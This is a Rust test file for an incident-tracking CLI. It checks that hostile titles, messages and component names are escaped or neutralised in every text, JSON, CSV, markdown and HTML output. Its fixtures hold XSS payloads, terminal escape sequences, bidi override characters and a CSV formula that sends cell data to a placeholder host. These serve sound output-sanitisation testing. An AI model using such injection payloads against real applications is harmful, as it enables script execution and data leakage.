//! Hostile text on its way through every exit: it stays text.

use super::shop::{LCOV, Shop};

const ROWS: &str = "id,title,phase,severity,started_at,component\n\
    INC-1,\"<script>alert(1)</script>\u{1b}[2J\u{202e}gpj.exe\",production,1,2025-04-01,checkout\n\
    INC-2,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",production,2,2025-04-02,\"<img src=x onerror=alert(2)>\"\n\
    INC-3,\"| a | [b](javascript:alert(3)) `c` \u{7}\",test,2,2025-04-03,checkout\n";

/// Every way out of the database, with the name of the format.
const EXITS: [(&str, &[&str]); 31] = [
    ("text", &["show", "INC-1"]),
    ("text", &["incidents", "list"]),
    ("text", &["analyze", "--all"]),
    ("json", &["show", "INC-1", "--format", "json"]),
    ("json", &["incidents", "list", "--format", "json"]),
    ("json", &["report", "--format", "json"]),
    ("csv", &["incidents", "list", "--format", "csv"]),
    ("csv", &["rate", "--by", "component", "--format", "csv"]),
    ("csv", &["regions"]),
    ("markdown", &["show", "INC-1", "--format", "markdown"]),
    ("markdown", &["report"]),
    ("html", &["report", "--format", "html"]),
    ("csv", &["show", "INC-1", "--format", "csv"]),
    ("csv", &["show", "INC-2", "--format", "csv"]),
    ("csv", &["links", "--format", "csv"]),
    ("csv", &["links", "--unlinked", "--format", "csv"]),
    ("csv", &["answer", "--format", "csv"]),
    ("csv", &["doctor", "--format", "csv"]),
    ("csv", &["risk", "--format", "csv"]),
    ("csv", &["gate", "--floor", "1", "--format", "csv"]),
    ("csv", &["assertions", "--summary", "--format", "csv"]),
    ("markdown", &["incidents", "list", "--format", "markdown"]),
    ("markdown", &["links", "--format", "markdown"]),
    ("markdown", &["links", "--unlinked", "--format", "markdown"]),
    ("markdown", &["rate", "--by", "component", "--format", "markdown"]),
    ("markdown", &["answer", "--format", "markdown"]),
    ("markdown", &["doctor", "--format", "markdown"]),
    ("markdown", &["analyze", "--format", "markdown"]),
    ("markdown", &["panel", "--explain", "--format", "markdown"]),
    ("markdown", &["regions", "--format", "markdown"]),
    ("markdown", &["trace", "HEAD", "--format", "markdown"]),
];

#[test]
fn a_hostile_title_message_and_component_stay_text_at_every_exit() {
    let message = "INC-1: <script>alert(4)</script> \u{1b}]0;owned\u{7} \u{202e}txet =1+1";
    let shop = Shop::named("shop", "src/checkout/pay.py", message);
    shop.write("incidents.csv", ROWS);
    shop.write("lcov.info", LCOV);
    shop.says(&["import", "incidents", "incidents.csv"]);
    shop.says(&["import", "coverage", "lcov.info", "--commit", "v1.1"]);
    for (format, arguments) in EXITS {
        let out = shop.says(arguments);
        let bad = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
        let found = out.chars().find(|c| bad(*c) && !(format == "csv" && *c == '\r'));
        assert_eq!(found, None, "{arguments:?}");
        match format {
            "html" | "markdown" => {
                let low = out.to_lowercase();
                for tag in ["<script>alert", "<img src=x", "href=\"javascript:"] {
                    assert!(!low.contains(tag), "{tag} in {arguments:?}");
                }
                assert!(format == "html" || !out.contains("[b](javascript:"), "{arguments:?}");
            }
            "csv" => {
                for record in csv::Reader::from_reader(out.as_bytes()).records() {
                    for cell in &record.unwrap() {
                        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
                    }
                }
            }
            "json" => drop(serde_json::from_str::<serde_json::Value>(&out).unwrap()),
            _ => {}
        }
    }
    // The test looks at the right places: the texts are there.
    assert!(shop.says(EXITS[0].1).contains("alert(1)"));
    assert!(shop.says(EXITS[0].1).contains("alert(4)"));
    assert!(shop.says(EXITS[6].1).contains("HYPERLINK"));
    assert!(shop.says(EXITS[11].1).contains("&lt;script&gt;alert(1)"));
}

#[test]
fn hostile_words_on_the_command_line_and_in_errors_stay_text() {
    let shop = Shop::new();
    let title = "a\u{1b}[31m\u{202e}b <script>";
    let shown = shop.says(&["incidents", "add", "INC-1", "--title", title]);
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{202e}'), "{shown:?}");
    for arguments in [
        &["show", "INC\u{1b}[2J\u{202e}"][..],
        &["trace", "no\u{1b}[2J\u{202e}such"],
        &["import", "incidents", "no\u{1b}[2J\u{202e}such.csv"],
        &["link", "INC-1", "--fix", "no\u{1b}[2J\u{202e}such"],
    ] {
        let ran = shop.run(arguments);
        assert!(ran.code > 0 && !ran.err.is_empty());
        assert!(!ran.err.contains('\u{1b}') && !ran.err.contains('\u{202e}'), "{:?}", ran.err);
    }
}
